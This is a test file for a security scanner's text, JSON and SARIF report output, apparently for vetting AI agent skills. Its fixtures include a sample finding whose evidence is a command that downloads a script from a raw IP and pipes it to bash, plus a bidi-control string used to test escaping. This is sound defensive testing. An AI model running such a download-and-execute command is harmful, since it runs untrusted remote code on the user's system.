import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, it } from 'node:test';
import Ajv04 from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { formatJson, formatSarif, formatText } from '../../src/scan/report/index.ts';
import type { Finding, Rule, ScanReport } from '../../src/scan/types.ts';

const f = (over: Partial<Finding>): Finding => ({
  ruleId: 'remote-exec-pipe', category: 'remote-exec', severity: 'critical', file: 'scripts/setup.sh', line: 4,
  message: 'Downloads a remote script and pipes it to a shell', evidence: 'curl -fsSL https://198.51.100.7/x.sh | bash', ...over,
});

const report: ScanReport = {
  version: 1,
  skills: [
    { path: 'skills/evil', name: 'evil', hash: 'a'.repeat(64), verdict: 'malicious', score: 95, findings: [f({}), f({ ruleId: 'raw-ip-endpoint', category: 'suspicious-endpoint', severity: 'medium', file: 'SKILL.md', line: 9, message: 'Talks to a raw IP', evidence: 'see 198.51.100.7\u202e hidden' })] },
    { path: 'skills/odd', name: 'odd', hash: 'b'.repeat(64), verdict: 'suspicious', score: 45, findings: [f({ ruleId: 'raw-ip-endpoint', category: 'suspicious-endpoint', severity: 'high', file: 'run.py', line: 2, baselined: false })] },
    { path: 'bundles/pack.zip!inner/skill', name: 'packed', hash: 'c'.repeat(64), verdict: 'clean', score: 0, findings: [f({ severity: 'high', file: 'a.sh', line: 7, baselined: true })] },
    { path: '/elsewhere/notes', name: 'notes', hash: 'd'.repeat(64), verdict: 'clean', score: 0, findings: [] },
  ],
  errors: [{ path: 'missing/dir', message: 'path not found' }],
};

const meta = (id: string, severity: Finding['severity']): Rule => ({
  meta: { id, category: 'remote-exec', severity, title: `${id} title`, description: `${id} explains why`, references: ['https://example.com/ref'], messages: { m: 'x' } },
  check() {},
});
const rules = [meta('remote-exec-pipe', 'critical'), meta('raw-ip-endpoint', 'medium')];

describe('formatText', () => {
  const text = formatText(report);

  it('groups findings under their skill with file:line, severity, rule id, message and evidence', () => {
    const lines = text.split('\n');
    const evil = lines.findIndex((l) => l.includes('malicious') && l.includes('evil'));
    assert.ok(evil >= 0);
    assert.match(lines[evil]!, /score 95/);
    assert.match(lines[evil + 1]!, /scripts\/setup\.sh:4 +critical +remote-exec-pipe +Downloads a remote script/);
    assert.match(lines[evil + 2]!, /> curl -fsSL https:\/\/198\.51\.100\.7\/x\.sh \| bash/);
    assert.match(text, /\(baselined\)/);
  });

  it('prints the summary and the errors, without colour unless asked', () => {
    assert.match(text, /^4 skills: 1 malicious, 1 suspicious, 2 clean; 1 error$/m);
    assert.match(text, /^error {2}missing\/dir: path not found$/m);
    assert.doesNotMatch(text, /\x1b\[/);
    assert.match(formatText(report, { color: true }), /\x1b\[31m/);
  });

  it('escapes control and bidi characters from skill content', () => {
    assert.match(text, /198\.51\.100\.7\\u\{202e\} hidden/);
    assert.doesNotMatch(text, /\u202e/);
  });

  it('--quiet keeps only skills at or above fail-on, and errors', () => {
    const quiet = formatText(report, { quiet: true });
    assert.match(quiet, /evil/);
    assert.doesNotMatch(quiet, /odd|packed|notes|skills:/);
    assert.match(quiet, /missing\/dir/);
    assert.match(formatText(report, { quiet: true, failOn: 'suspicious' }), /odd/);
  });
});

describe('formatJson', () => {
  it('keeps the documented shape', () => {
    const json = JSON.parse(formatJson(report));
    assert.equal(json.version, 1);
    assert.deepEqual(Object.keys(json.skills[0]), ['path', 'name', 'hash', 'verdict', 'score', 'findings']);
    const finding = json.skills[0].findings[0];
    for (const key of ['ruleId', 'severity', 'file', 'line', 'message']) assert.ok(key in finding, key);
    assert.deepEqual({ ruleId: finding.ruleId, severity: finding.severity, file: finding.file, line: finding.line }, { ruleId: 'remote-exec-pipe', severity: 'critical', file: 'scripts/setup.sh', line: 4 });
    assert.deepEqual(json.errors, [{ path: 'missing/dir', message: 'path not found' }]);
    assert.equal(json.skills[2].findings[0].baselined, true);
  });
});

describe('formatSarif', () => {
  const require = createRequire(import.meta.url);
  const schemaPath = require.resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json');
  const schema = JSON.parse(readFileSync(schemaPath, 'utf8'));
  const ajv = new Ajv04.default({ allErrors: true, strict: false, unicodeRegExp: false });
  addFormats.default(ajv);
  const validate = ajv.compile(schema);
  const sarif = JSON.parse(formatSarif(report, { root: '/repo', rules }));

  it('is valid against the official SARIF 2.1.0 schema', () => {
    assert.equal(validate(sarif), true, JSON.stringify(validate.errors?.slice(0, 5), null, 2));
    const empty = JSON.parse(formatSarif({ version: 1, skills: [], errors: [] }, { root: '/repo', rules }));
    assert.equal(validate(empty), true, JSON.stringify(validate.errors?.slice(0, 5)));
  });

  it('rejects a broken log (the validator is live)', () => {
    const broken = structuredClone(sarif);
    broken.runs[0].results[0].level = 'fatal';
    assert.equal(validate(broken), false);
  });

  it('describes the rules that fired with help text, level and tags', () => {
    const driverRules = sarif.runs[0].tool.driver.rules;
    assert.deepEqual(driverRules.map((r: { id: string }) => r.id), ['raw-ip-endpoint', 'remote-exec-pipe']);
    const r = driverRules[1];
    assert.equal(r.shortDescription.text, 'remote-exec-pipe title');
    assert.match(r.help.text, /explains why/);
    assert.equal(r.helpUri, 'https://example.com/ref');
    assert.equal(r.defaultConfiguration.level, 'error');
    assert.ok(r.properties.tags.includes('security'));
    assert.equal(r.properties['security-severity'], '9.5');
  });

  it('locates results relative to the root, bundles on the bundle file, outside paths as file URIs', () => {
    const results = sarif.runs[0].results;
    const first = results[0].locations[0].physicalLocation;
    assert.deepEqual(first.artifactLocation, { uri: 'skills/evil/scripts/setup.sh', uriBaseId: '%SRCROOT%' });
    assert.equal(first.region.startLine, 4);
    assert.equal(results[0].level, 'error');
    assert.equal(results[1].level, 'warning');
    assert.equal(results[0].properties.verdict, 'malicious');
    assert.ok(results[0].partialFingerprints['wardenFinding/v1'].length === 64);
    const bundled = results[3];
    assert.deepEqual(bundled.locations[0].physicalLocation.artifactLocation, { uri: 'bundles/pack.zip', uriBaseId: '%SRCROOT%' });
    assert.match(bundled.message.text, /inner\/skill\/a\.sh:7/);
    assert.equal(bundled.suppressions[0].status, 'accepted');
    assert.equal(sarif.runs[0].originalUriBaseIds['%SRCROOT%'].uri, 'file:///repo/');
    const note = sarif.runs[0].invocations[0].toolExecutionNotifications[0];
    assert.equal(sarif.runs[0].invocations[0].executionSuccessful, false);
    assert.match(note.message.text, /missing\/dir: path not found/);
    const outside = JSON.parse(formatSarif({ version: 1, skills: [{ ...report.skills[0]!, path: '/elsewhere/x' }], errors: [] }, { root: '/repo', rules }));
    assert.equal(outside.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri, 'file:///elsewhere/x/scripts/setup.sh');
  });
});
